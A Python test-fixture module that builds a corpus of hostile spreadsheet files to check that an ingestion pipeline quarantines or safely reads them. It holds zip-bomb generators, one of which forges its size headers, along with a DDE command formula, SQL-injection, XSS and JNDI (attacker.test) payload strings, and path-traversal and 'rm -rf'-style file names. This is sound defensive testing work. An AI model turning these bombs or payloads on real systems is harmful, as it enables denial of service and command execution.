"""The hostile corpus: files that have taken spreadsheet readers down, each with what must become of it.

Every entry builds its file at test time (no binary is committed) and says how it is placed on
the share (a plain file, a link, a pipe, a file still being written), whether it must be
quarantined (and with which reason codes) or processed, and for a processed one what its sheets
must hold. A file is never judged by its name: '.xlsx' may hold anything.
"""

from __future__ import annotations

import datetime as dt
import os
import struct
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Literal

import msoffcrypto.format.ooxml
import polars as pl
import xlsxwriter

from .workbooks import (
    HEADER,
    line,
    rewrite_zip,
    sales,
    write_ods,
    write_xls,
    write_xlsb,
    write_xlsx,
    xlsb_record,
    xlsb_sheet,
)

GiB = 1 << 30
SHEET1 = "xl/worksheets/sheet1.xml"
DDE_FORMULA = "=cmd|' /C calc'!A0"
Placement = Literal["file", "symlink", "fifo", "growing"]
Check = Callable[[Mapping[str, pl.DataFrame]], None]


@dataclass(frozen=True)
class Hostile:
    key: str
    build: Callable[[Path], object]
    expected: Literal["quarantined", "landed"]
    codes: frozenset[str] = frozenset()
    """Reason codes a quarantine may give (any of them)."""
    share_name: str = ""
    """The name on the share; default '<key>.xlsx'."""
    placement: Placement = "file"
    check: Check | None = None
    """For a processed file: what its sheets must hold."""

    @property
    def name(self) -> str:
        return self.share_name or f"{self.key}.xlsx"


def good(path: Path, rows: int = 3) -> Path:
    return write_xlsx(path, {"2024": sales(rows)})


# ------------------------------------------------------------------------------- size and shape


def zip_bomb(path: Path, inflated_bytes: int) -> Path:
    """A workbook whose one sheet's XML inflates to `inflated_bytes` from a few MB (deflate of repeated rows),
    written by streaming: the bomb never exists unpacked, here or anywhere."""
    template = good(path.with_name(path.name + ".template.xlsx"))
    with zipfile.ZipFile(template) as source:
        parts = {name: source.read(name) for name in source.namelist() if name != SHEET1}
    row = b'<row><c t="n"><v>1</v></c></row>'
    block = row * 32768
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
        with archive.open(SHEET1, "w", force_zip64=inflated_bytes >= 2 * GiB) as sheet:
            sheet.write(
                b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            )
            sheet.write(b"<sheetData>")
            written = 0
            while written < inflated_bytes:
                sheet.write(block)
                written += len(block)
            sheet.write(b"</sheetData></worksheet>")
    template.unlink()
    return path


def lying_zip_bomb(path: Path, inflated_bytes: int) -> Path:
    """A zip bomb whose headers claim its sheet inflates only ten times (a plausible sheet): the zip's own
    records pass every check, so only the reader's process limits stand in the way. Under 2 GiB (no zip64)."""
    zip_bomb(path, inflated_bytes)
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as archive:
        info = archive.getinfo(SHEET1)
    claimed = info.compress_size * 10
    struct.pack_into("<I", data, info.header_offset + 22, claimed)  # local header: uncompressed size
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        (name_length,) = struct.unpack_from("<H", data, at + 28)
        if bytes(data[at + 46 : at + 46 + name_length]) == SHEET1.encode():
            struct.pack_into("<I", data, at + 24, claimed)  # central directory: uncompressed size
        at = data.find(b"PK\x01\x02", at + 4)
    path.write_bytes(data)
    return path


def far_cell(path: Path, *, is_declared: bool = True) -> Path:
    """One header row and one cell at XFD1048576: 7 KB that asks the reader for 512 GiB. Undeclared,
    the sheet has no <dimension>, so only the reader's own limits stand in the way."""
    workbook = xlsxwriter.Workbook(str(path))
    sheet = workbook.add_worksheet("2024")
    for column, header in enumerate(HEADER):
        sheet.write(0, column, header)
    sheet.write(1_048_575, 16_383, "x")
    workbook.close()
    if not is_declared:
        staged = path.rename(path.with_name(path.name + ".declared"))
        rewrite_zip(staged, path, {SHEET1: lambda xml: xml.replace(b'<dimension ref="A1:XFD1048576"/>', b"")})
        staged.unlink()
    return path


def wide_sheet(path: Path) -> Path:
    """The contract's header and a cell in the last of Excel's 16,384 columns."""
    return write_xlsx(path, {"2024": [[*HEADER, *([None] * (16_384 - len(HEADER) - 1)), "x"], line(1)]})


def declared_rows(path: Path) -> Path:
    """Three lines that declare Excel's full 1,048,576 rows."""
    staged = write_xlsx(path.with_name(path.name + ".small"), {"2024": sales(3)})
    rewrite_zip(
        staged, path, {SHEET1: lambda xml: xml.replace(b'<dimension ref="A1:H4"/>', b'<dimension ref="A1:H1048576"/>')}
    )
    staged.unlink()
    return path


def many_sheets(path: Path) -> Path:
    return write_xlsx(path, {"2024": sales(2), **{f"Notes {i}": [["n"]] for i in range(199)}})


def many_entries(path: Path) -> Path:
    staged = good(path.with_name(path.name + ".small"))
    rewrite_zip(staged, path, {}, {f"customXml/item{i}.xml": b"<x/>" for i in range(20_000)})
    staged.unlink()
    return path


def too_large(path: Path) -> Path:
    """300 MB that cost nothing to write (a sparse file): the size alone refuses it."""
    with path.open("wb") as handle:
        handle.write(b"PK\x03\x04")
        handle.truncate(300 * 1024 * 1024)
    return path


# ------------------------------------------------------------------------------ broken and locked


def encrypted(path: Path) -> Path:
    plain = good(path.with_name(path.name + ".plain.xlsx"))
    with plain.open("rb") as source, path.open("wb") as target:
        msoffcrypto.format.ooxml.OOXMLFile(source).encrypt("secret", target)
    plain.unlink()
    return path


def corrupt_sheet_xml(path: Path) -> Path:
    staged = good(path.with_name(path.name + ".good"))
    rewrite_zip(staged, path, {SHEET1: lambda xml: xml[: len(xml) // 2] + b"<c r=<<\x00\xff"})
    staged.unlink()
    return path


def truncated(path: Path) -> Path:
    whole = good(path.with_name(path.name + ".whole"), rows=200).read_bytes()
    path.write_bytes(whole[: len(whole) // 2])
    path.with_name(path.name + ".whole").unlink()
    return path


def zip_not_workbook(path: Path) -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("readme.txt", "not a workbook")
        archive.writestr("data/values.csv", "a,b\n1,2\n")
    return path


# ----------------------------------------------------------------------- other formats, any name


def xlsb_panic(path: Path) -> Path:
    """A shared-string cell pointing past the (absent) string table: calamine panics (index out of bounds)."""
    return write_xlsb(path, {"2024": xlsb_sheet(sales(2), xlsb_record(0x07, struct.pack("<III", 0, 0, 999)))})


def xlsb_far_cell(path: Path) -> Path:
    """An .xlsb (no <dimension> to inspect) with one number at XFD1048576: 512 GiB asked for."""
    far = xlsb_record(0x00, struct.pack("<IIHBBBI", 1_048_575, 0, 0, 0, 0, 0, 0))
    far += xlsb_record(0x05, struct.pack("<IId", 16_383, 0, 1.0))
    return write_xlsb(path, {"2024": xlsb_sheet(sales(2), far)})


def csv_text(path: Path) -> Path:
    path.write_text(";".join(HEADER) + "\nPI1;2024-01-02;ACME;Germany;RS1221+;1;EUR;10.5\n")
    return path


def html_table(path: Path) -> Path:
    path.write_text("<html><body><table><tr><td>PI</td><td>Total</td></tr></table></body></html>")
    return path


# ------------------------------------------------------------------------------- cells and names


def formulas(path: Path) -> Path:
    """Text that looks like formulas, and real formulas (DDE, HYPERLINK) with cached values: the text
    stays text and the formulas give their cached value; nothing is ever evaluated."""
    workbook = xlsxwriter.Workbook(str(path), {"strings_to_formulas": False})
    sheet = workbook.add_worksheet("2024")
    for column, header in enumerate(HEADER):
        sheet.write_string(0, column, header)
    texts = [DDE_FORMULA, "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", '=HYPERLINK("http://x.test","y")']
    for row, text in enumerate(texts, start=1):
        sheet.write_string(row, 0, f"PI{row}")
        sheet.write_string(row, 2, text)  # Customer
        sheet.write_number(row, 7, 10.0)
    sheet.write_string(6, 0, "PI6")
    sheet.write_formula(6, 2, DDE_FORMULA, None, "cached text")
    sheet.write_formula(7, 0, '=DDE("cmd";"/C calc";"A1")', None, "PI7")
    sheet.write_formula(7, 7, '=HYPERLINK("http://x.test",5)', None, 5)
    workbook.close()
    return path


def check_formulas(sheets: Mapping[str, pl.DataFrame]) -> None:
    frame = sheets["2024"]
    assert frame["Customer"].to_list()[:6] == [
        DDE_FORMULA,
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        '=HYPERLINK("http://x.test","y")',
        "cached text",
    ]
    assert frame["PI"].to_list()[6] == "PI7"
    assert frame["Total"].cast(pl.Float64).to_list()[6] == 5.0


def error_cells(path: Path) -> Path:
    workbook = xlsxwriter.Workbook(str(path))
    sheet = workbook.add_worksheet("2024")
    for column, header in enumerate(HEADER):
        sheet.write(0, column, header)
    for row, (formula, cached) in enumerate([("=1/0", "#DIV/0!"), ("=NA()", "#N/A"), ('="a"+1', "#VALUE!")], 1):
        sheet.write_row(row, 0, [f"PI{row}", None, "ACME", "Germany", "RS1221+"])
        sheet.write_formula(row, 5, formula, None, cached)
        sheet.write_formula(row, 7, formula, None, cached)
    sheet.write_row(4, 0, ["PI4", None, "ACME", "Germany", "RS1221+", 2, "EUR", 99.5])
    workbook.close()
    return path


def check_error_cells(sheets: Mapping[str, pl.DataFrame]) -> None:
    frame = sheets["2024"]
    assert frame.height == 4
    totals = frame["Total"].to_list()
    assert str(totals[3]) in ("99.5", "99.5000") and not any(isinstance(v, float) for v in totals[:3])


def merged_header(path: Path) -> Path:
    workbook = xlsxwriter.Workbook(str(path))
    sheet = workbook.add_worksheet("2024")
    sheet.merge_range(0, 0, 0, 7, "Sell-out 2024 (merged title)")
    sheet.merge_range(1, 0, 2, 0, "PI")  # a header merged over two rows
    for column, header in enumerate(HEADER[1:], start=1):
        sheet.write(1, column, header)
    for row in range(3, 8):
        sheet.write_row(row, 0, [f"PI{row}", 45_000, "ACME", "Germany", "RS1221+", 1, "EUR", 10.0 * row])
    workbook.close()
    return path


def check_merged_header(sheets: Mapping[str, pl.DataFrame]) -> None:
    frame = sheets["2024"]
    assert frame.columns[:8] == HEADER
    assert frame["PI"].drop_nulls().to_list() == [f"PI{row}" for row in range(3, 8)]


HOSTILE_SHEET_NAMES = [
    "../../../etc/passwd",
    DDE_FORMULA,
    "<script>alert(1)</script>",
    "'; drop table raw.sales_lines; --",
    "evil\u202etxt.exe",
    "line\nbreak\x07",
    "📈 ventes été",
]


def renamed_sheets(path: Path, names: list[str], keep_contract: bool) -> Path:
    """Sheets whose names Excel would refuse, written into xl/workbook.xml by hand."""
    placeholders = [f"Sheet{i}" for i in range(len(names))]
    staged = write_xlsx(
        path.with_name(path.name + ".plain"),
        {**({"2024": sales(2)} if keep_contract else {}), **{p: [["x"]] for p in placeholders}},
    )

    def rename(xml: bytes) -> bytes:
        for placeholder, name in zip(placeholders, names, strict=True):
            escaped = name.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;").replace("\n", "&#10;")
            escaped = escaped.replace("\x07", "")
            xml = xml.replace(f'name="{placeholder}"'.encode(), f'name="{escaped}"'.encode())
        return xml

    rewrite_zip(staged, path, {"xl/workbook.xml": rename})
    staged.unlink()
    return path


HOSTILE_CELLS = [
    "'; DROP TABLE raw.sales_lines; --",
    "<img src=x onerror=alert(1)>",
    "${jndi:ldap://attacker.test/a}",
    "Robert\u202e'); --",
    "株式会社 Müller ☃ 🚀",
    "x" * 32_767,
]


def injection_cells(path: Path) -> Path:
    rows = [list(HEADER)] + [
        [f"PI{i}", 45_000, text, "Germany", text[:50], 1, "EUR", 1.0] for i, text in enumerate(HOSTILE_CELLS)
    ]
    return write_xlsx(path, {"2024": rows})


def check_injection_cells(sheets: Mapping[str, pl.DataFrame]) -> None:
    assert sheets["2024"]["Customer"].to_list() == HOSTILE_CELLS


def duplicate_year_sheets(path: Path) -> Path:
    return write_xlsx(path, {"2024": sales(2), " 2024 ": sales(2, start=10)})


def check_rows(count: int, sheet: str = "2024") -> Check:
    def check(sheets: Mapping[str, pl.DataFrame]) -> None:
        assert sheets[sheet].height == count
        assert sheets[sheet]["PI"].to_list() == [f"PI{i}" for i in range(count)]

    return check


CORPUS: list[Hostile] = [
    Hostile(
        "zip_bomb_1_1_gib", lambda p: zip_bomb(p, 1100 * 1024 * 1024), "quarantined", frozenset({"inflates_too_much"})
    ),
    Hostile("zip_bomb_ratio", lambda p: zip_bomb(p, 64 * 1024 * 1024), "quarantined", frozenset({"inflates_too_much"})),
    Hostile("far_cell_512_gib", far_cell, "quarantined", frozenset({"too_many_columns", "sheet_too_large"})),
    Hostile(
        "far_cell_undeclared",
        lambda p: far_cell(p, is_declared=False),
        "quarantined",
        frozenset({"reader_out_of_memory"}),
    ),
    Hostile("columns_16384", wide_sheet, "quarantined", frozenset({"too_many_columns"})),
    Hostile("rows_1048576_declared", declared_rows, "landed", check=check_rows(3)),
    Hostile("sheets_200", many_sheets, "quarantined", frozenset({"too_many_sheets"})),
    Hostile("zip_entries_20000", many_entries, "quarantined", frozenset({"too_many_entries"})),
    Hostile("too_large_300_mb", too_large, "quarantined", frozenset({"too_large"})),
    Hostile("encrypted", encrypted, "quarantined", frozenset({"password_protected"})),
    Hostile("corrupt_sheet_xml", corrupt_sheet_xml, "quarantined", frozenset({"corrupt_file", "unreadable_file"})),
    Hostile("truncated_zip", truncated, "quarantined", frozenset({"corrupt_file"})),
    Hostile("zip_not_a_workbook", zip_not_workbook, "quarantined", frozenset({"not_a_workbook"})),
    Hostile("xls_named_xlsx", lambda p: write_xls(p, {"2024": sales(4)}), "landed", check=check_rows(4)),
    Hostile("xlsb_named_xlsx", lambda p: write_xlsb(p, {"2024": xlsb_sheet(sales(5))}), "landed", check=check_rows(5)),
    Hostile("ods_named_xlsx", lambda p: write_ods(p, {"2024": sales(6)}), "landed", check=check_rows(6)),
    Hostile("csv_named_xlsx", csv_text, "quarantined", frozenset({"csv_not_workbook"})),
    Hostile("html_named_xls", html_table, "quarantined", frozenset({"not_a_workbook"}), share_name="report.xls"),
    Hostile("xlsb_panic", xlsb_panic, "quarantined", frozenset({"reader_panicked"}), share_name="xlsb_panic.xlsb"),
    Hostile("xlsb_far_cell", xlsb_far_cell, "quarantined", frozenset({"reader_out_of_memory"}), share_name="far.xlsb"),
    Hostile("formula_cells", formulas, "landed", check=check_formulas),
    Hostile("error_cells", error_cells, "landed", check=check_error_cells),
    Hostile("merged_header", merged_header, "landed", check=check_merged_header),
    Hostile(
        "hostile_sheet_names",
        lambda p: renamed_sheets(p, HOSTILE_SHEET_NAMES, keep_contract=True),
        "landed",
        check=check_rows(2),
    ),
    Hostile(
        "only_hostile_sheet_names",
        lambda p: renamed_sheets(p, HOSTILE_SHEET_NAMES, keep_contract=False),
        "quarantined",
        frozenset({"no_sales_sheets"}),
    ),
    Hostile("injection_cells", injection_cells, "landed", check=check_injection_cells),
    Hostile("duplicate_year_sheets", duplicate_year_sheets, "quarantined", frozenset({"duplicate_sheets"})),
    Hostile("path_traversal_name", good, "landed", share_name="sales\\..\\..\\..\\Windows\\System32\\evil.xlsx"),
    Hostile("leading_dash_name", good, "landed", share_name="-rf --no-preserve-root.xlsx"),
    Hostile("direction_override_name", good, "landed", share_name="ventes été 株式会社 \u202exslx.exe.xlsx"),
    Hostile("long_unicode_name", good, "landed", share_name="売上報告" * 20 + ".xlsx"),
    Hostile("non_utf8_name", good, "landed", share_name=os.fsdecode(b"ventes-\xff\xfe-2024.xlsx")),
    Hostile("newline_name", good, "landed", share_name="Q4\nreport\t.xlsx"),
    Hostile("symlink_outside_share", good, "quarantined", frozenset({"not_a_file"}), placement="symlink"),
    Hostile("fifo", lambda p: None, "quarantined", frozenset({"not_a_file"}), placement="fifo"),
    Hostile("still_growing", lambda p: good(p, rows=400), "landed", placement="growing", check=check_rows(400)),
]


def unique_good(path: Path, serial: int) -> Path:
    """A small valid workbook of its own content (a new snapshot every time)."""
    return write_xlsx(
        path,
        {
            "2024": [
                list(HEADER),
                [f"GOOD{serial}", dt.datetime(2024, 3, 1), "ACME", "France", "DS224+", 1, "EUR", 10.0],
            ]
        },
    )
